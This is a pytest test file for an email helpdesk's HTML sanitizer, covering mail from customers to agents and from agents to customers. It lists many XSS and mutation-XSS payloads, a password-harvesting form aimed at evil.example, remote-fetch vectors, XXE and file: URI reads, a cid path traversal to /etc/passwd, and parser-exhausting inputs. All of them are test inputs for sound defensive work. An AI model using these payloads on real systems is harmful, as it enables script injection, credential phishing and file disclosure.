"""Section J: HTML, on both ways: a customer's to the agents, an agent's to the customer."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path

import pytest

from tests.hostile.desk import HostileDesk, Met
from tests.hostile.limited import meets_within
from tests.hostile.mails import (
    harmless,
    last_notice,
    markup,
    notice,
    of_html,
    of_parts,
    opened,
    seen,
    text_of,
)
from tests.support.desk import SentMail

WORDS = "The printer burns."


def from_customer(desk: HostileDesk, html: str) -> tuple[Met, SentMail]:
    """A stranger's mail of this HTML, and what an agent gets of it."""
    met = desk.meets(of_html(html))
    opened(met, acknowledged=True)
    return met, notice(met)


def from_agent(busy: HostileDesk, html: str, text: str = WORDS) -> SentMail:
    """What cora gets of anna's answer of this HTML."""
    asked = last_notice(busy)
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = (
        "Anna Archer <anna@desk.example>",
        asked["Reply-To"],
        f"Re: {asked['Subject']}",
    )
    message["In-Reply-To"] = asked["Message-ID"]
    message.set_content(text)
    message.add_alternative(html, subtype="html")
    before = len(busy.sent_to("cora@client.example"))
    met = busy.meets(message.as_bytes())
    assert met.state == "on_ticket"
    assert len(busy.sent_to("cora@client.example")) == before + 1
    return busy.last("cora@client.example", "answer")


@pytest.fixture
def both(busy: HostileDesk):
    """What people get of a page, whichever way it goes; `busy` after a second mail of cora's, so that anna may answer."""
    busy.answers(busy.last("cora@client.example"), "Cora Client <cora@client.example>", "It still burns.")

    def ways(html: str) -> list[SentMail]:
        return [from_customer(busy, html)[1], from_agent(busy, html)]

    return ways


RUNNING = {
    "script": f"<p>{WORDS}</p><script>alert(1)</script>",
    "script open": f"<p>{WORDS}</p><script>alert(1)",
    "onerror": f"<p>{WORDS}</p><img src=x onerror=alert(1)>",
    "onclick": f'<p onclick="alert(1)" ONMOUSEOVER=alert(1)>{WORDS}</p>',
    "slash": f"<p/onclick=alert(1)>{WORDS}</p>",
    "javascript": f'<p><a href="javascript:alert(1)">{WORDS}</a></p>',
    "mixed case": f'<p><a href=" JaVa&#x09;Script:alert(1)">{WORDS}</a></p>',
    "entities": f'<p><a href="&#106;avascript&colon;alert(1)">{WORDS}</a></p>',
    "vbscript": f'<p><a href="vbscript:x">{WORDS}</a></p>',
    "iframe": f'<p>{WORDS}</p><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "svg": f"<p>{WORDS}</p><svg onload=alert(1)><a xlink:href=javascript:alert(1)></a></svg>",
    "form": f'<p>{WORDS}</p><form action="https://evil.example"><input name=password><button>ok</button></form>',
    "style": f'<p style="background:url(javascript:alert(1));width:expression(alert(1))">{WORDS}</p>',
    "object": f'<p>{WORDS}</p><object data="data:text/html,x"></object><embed src="x.swf">',
    "meta": f'<p>{WORDS}</p><meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "null": f"<p>{WORDS}</p><scr\0ipt>alert(1)</scr\0ipt>",
}


@pytest.mark.case(130)
@pytest.mark.parametrize("kind", RUNNING)
def test_130_nothing_runs(both, kind: str):
    """Words and simple formatting are relayed (as `design.md` section 6 wants it), and nothing that runs."""
    for mail in both(RUNNING[kind]):
        harmless(mail.html)
        assert WORDS in seen(mail.html)
        assert mail.text.startswith(WORDS)
        # Of an element that nobody knows the words stay, and are words.
        assert "alert(1)" not in mail.html or kind == "null"
        assert "password" not in mail.html


@pytest.fixture
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """The address of a web server, and what was asked of it."""
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        ended = threading.Event()

        def listen() -> None:
            while not ended.is_set():
                try:
                    connection, _ = server.accept()
                except TimeoutError:
                    continue
                with connection:
                    connection.settimeout(1)
                    heard.append(connection.recv(1000))
                    connection.sendall(b"HTTP/1.0 200 OK\r\n\r\nfetched-words")

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.getsockname()[1]}", heard
        finally:
            ended.set()
            thread.join()


FETCHING = {
    "picture": '<img src="{url}/p.png" width=1 height=1>',
    "srcset": '<img srcset="{url}/p.png 2x"><picture><source srcset="{url}/q.png"></picture>',
    "link": '<link rel="stylesheet" href="{url}/s.css"><link rel="prefetch" href="{url}/x">',
    "background": '<table background="{url}/b.png"><tr><td></td></tr></table>',
    "css": '<style>body{{background:url({url}/c.png)}} @import url("{url}/d.css"); @font-face{{src:url({url}/f)}}</style>',
    "style": '<div style="background-image:url({url}/e.png)"></div>',
    "frames": '<iframe src="{url}/i"></iframe><frame src="{url}/j"><object data="{url}/k"></object><embed src="{url}/l">',
    "media": '<video src="{url}/v" poster="{url}/w" autoplay></video><audio src="{url}/a"></audio>',
    "input": '<input type=image src="{url}/n">',
    "doctype": '<!DOCTYPE html SYSTEM "{url}/x.dtd" [<!ENTITY % p SYSTEM "{url}/y.dtd"> %p;]>',
    "xml": '<?xml-stylesheet href="{url}/x.xsl"?><xi:include href="{url}/z" xmlns:xi="http://www.w3.org/2001/XInclude"/>',
    "svg": '<svg><image href="{url}/g"/><use xlink:href="{url}/u#a"/></svg>',
    "manifest": '<html manifest="{url}/m"><body background="{url}/h">',
}


@pytest.mark.case(131)
@pytest.mark.parametrize("kind", FETCHING)
def test_131_nothing_is_fetched(both, listener: tuple[str, list[bytes]], kind: str):
    """A web server on this machine is asked by nobody, and no mail of ours makes a mail program ask it."""
    url, heard = listener
    for mail in both(f"{FETCHING[kind].format(url=url)}<p>{WORDS}</p>"):
        harmless(mail.html)
        assert WORDS in seen(mail.html)
        assert url not in mail.html
        assert "fetched-words" not in mail.html + mail.text
    assert heard == []


@pytest.mark.case(131)
def test_131_headers_and_attached_parts_fetch_nothing(desk: HostileDesk, listener: tuple[str, list[bytes]]):
    """Neither fields that name a page nor a part that lies elsewhere (RFC 2017) makes the desk go there."""
    url, heard = listener
    met = desk.meets(
        of_parts(
            f"Content-Type: text/plain\n\n{WORDS} {url}/in-the-text",
            f'Content-Type: message/external-body; access-type=URL; URL="{url}/part"\n\nContent-Type: image/png\n',
            f"Content-Type: image/png\nContent-Location: {url}/p.png\n\n",
        ).replace(
            b"MIME-Version",
            f"List-Unsubscribe: <{url}/u>\nList-Unsubscribe-Post: List-Unsubscribe=One-Click\nX-Face-URL: {url}/f\nMIME-Version".encode(),
            1,
        )
    )
    assert met.is_new
    assert heard == []


MUTATIONS = {
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
    "math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "svg style": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template><p>{{constructor.constructor('alert(1)')()}}</p>",
    "textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "title": '<title><a title="</title><script>alert(1)</script>">',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "cdata": "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    "quote": '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
    "backtick": "<img alt=`><img src=x onerror=alert(1)>` >",
    "alt": '<img src="cid:x" alt="\'><script>alert(1)</script>">',
}


@pytest.mark.case(133)
@pytest.mark.parametrize("kind", MUTATIONS)
def test_133_html_that_changes_when_it_is_parsed_again(both, kind: str):
    """However often what we send is parsed and written again, nothing in it runs; what looks like markup is text."""
    from lxml import html as lxml_html

    for mail in both(f"<p>{WORDS}</p>{MUTATIONS[kind]}"):
        page = mail.html
        for _ in range(3):
            harmless(page)
            page = lxml_html.tostring(lxml_html.document_fromstring(page), encoding="unicode")
        assert mail.text.startswith(WORDS)


OPENINGS = {
    "cdata": "<![CDATA[" * 18_000,
    "comment": "<!--" * 40_000,
    "element": "<a" * 80_000,
    "angle": "<" * 160_000,
    "nested": "<div>" * 32_000,
    "formatting": "<b>" * 53_000,
    "tables": "<table><tr><td>" * 10_000,
    "attributes": "<p " + " ".join(f"a{n}=1" for n in range(20_000)) + ">",
    "one attribute": f'<p title="{"x" * 160_000}">',
    "unknown entities": "&x" * 80_000,
    "doctype": "<!DOCTYPE " * 16_000,
    "svg": "<svg><style>" * 13_000,
    "quotes": '<p title="' * 16_000,
    "blockquotes": "<blockquote>" * 13_000,
    "spaces": " \n" * 80_000,
}


@pytest.mark.case(134)
@pytest.mark.parametrize("kind", OPENINGS)
def test_134_openings(tmp_path: Path, kind: str):
    """160 KB of whatever a parser may stumble over: read, decided and written in two seconds and 200 MB."""
    raw = of_html(f"<p>{WORDS}</p>{OPENINGS[kind]}")
    found = meets_within(tmp_path / "limited", raw, seconds=2, megabytes=200)
    assert (found["state"], found["reason"]) == ("on_ticket", "opened a ticket")
    assert found["notice"].startswith(WORDS)
    harmless(found["html"])


MOVING = {
    "import": '<style>@import url("https://evil.example/x.css");</style><style>@import "https://evil.example/y.css";</style>',
    "base": '<base href="https://evil.example/"><a href="/login">log in</a>',
    "base target": '<base target="_blank" href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "refresh in body": '<div><META HTTP-EQUIV=Refresh CONTENT="1; URL=https://evil.example/"></div>',
    "relative": '<a href="//evil.example/x">there</a><a href="x">here</a>',
}


@pytest.mark.case(136)
@pytest.mark.parametrize("kind", MOVING)
def test_136_import_base_and_refresh(both, kind: str):
    """They are taken out, and so are links that would need a base."""
    for mail in both(f"<p>{WORDS}</p>{MOVING[kind]}"):
        harmless(mail.html)
        assert WORDS in seen(mail.html)
        assert "evil.example/" not in mail.html
        assert not [one for tag, one in markup(mail.html) if tag in {"base", "meta"} and "http-equiv" in one]


@pytest.mark.case(137)
@pytest.mark.parametrize("kind", ["picture", "link", "entity", "include", "object", "style"])
def test_137_files_are_not_read(both, tmp_path: Path, kind: str):
    """A file of this machine that a page names is in no mail."""
    secret = tmp_path / "secret.txt"
    secret.write_text("words of this machine")
    uri = secret.as_uri()
    page = {
        "picture": f'<img src="{uri}">',
        "link": f'<a href="{uri}">look</a>',
        "entity": f'<!DOCTYPE html [<!ENTITY x SYSTEM "{uri}">]><p>&x;</p>',
        "include": f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}" parse="text"/>',
        "object": f'<object data="{uri}"></object><iframe src="{uri}"></iframe>',
        "style": f'<style>@import url({uri});</style><link rel=stylesheet href="{uri}">',
    }[kind]
    for mail in both(f"{page}<p>{WORDS}</p>"):
        harmless(mail.html)
        assert "words of this machine" not in mail.html + mail.text
        assert b"file:" not in mail.html.encode()


@pytest.mark.case(137)
@pytest.mark.parametrize(
    "page",
    [
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">look</a>',
        '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
        '<img src="cid:nothing@evil.example">',
        '<img src="cid:../../etc/passwd"><img src="CID:%2e%2e/x">',
        '<a href="cid:nothing@evil.example">look</a>',
    ],
    ids=["data picture", "data link", "data frame", "cid", "cid path", "cid link"],
)
def test_137_data_and_unknown_cid_are_not_resolved(both, page: str):
    """They are taken out; a picture that comes with the mail is the only one that is shown."""
    for mail in both(f"<p>{WORDS}</p>{page}"):
        harmless(mail.html)
        assert not [one for tag, one in markup(mail.html) if tag == "img"]
        assert "data:" not in mail.html
        assert "cid:" not in mail.html


@pytest.mark.case(137)
def test_137_a_picture_of_the_mail_itself_is_shown(desk: HostileDesk):
    """`cid:` of a picture that comes along is kept, and names that picture."""
    picture = "Content-Type: image/png\nContent-ID: <p@evil.example>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo="
    met = desk.meets(
        of_parts(
            f'Content-Type: text/html\n\n<p>{WORDS}</p><img src="cid:p@evil.example">',
            picture,
            kind="related",
        )
    )
    assert text_of(desk, met) == WORDS
    assert [one["src"] for tag, one in markup(notice(met).html) if tag == "img"] == ["cid:p@evil.example"]
    harmless(notice(met).html)
